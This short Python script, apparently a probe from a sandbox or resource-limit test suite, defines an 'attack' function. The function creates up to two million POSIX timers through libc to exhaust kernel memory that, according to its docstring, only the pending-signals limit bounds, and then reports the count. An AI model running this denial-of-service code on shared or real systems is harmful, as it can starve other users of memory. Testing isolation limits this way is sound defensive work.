"""Makes as many timers as the limit on pending signals allows; no other limit counts the memory that they take."""

import ctypes
import resource

libc = ctypes.CDLL(None, use_errno=True)


def attack(*args, **kwargs):
    event = (ctypes.c_int * 16)(0, 0, 0, 1)  # SIGEV_NONE
    made, identity = 0, ctypes.c_int()
    while made < 2_000_000 and libc.timer_create(1, event, ctypes.byref(identity)) == 0:
        made += 1
    print(made, "timers of", resource.getrlimit(resource.RLIMIT_SIGPENDING), flush=True)
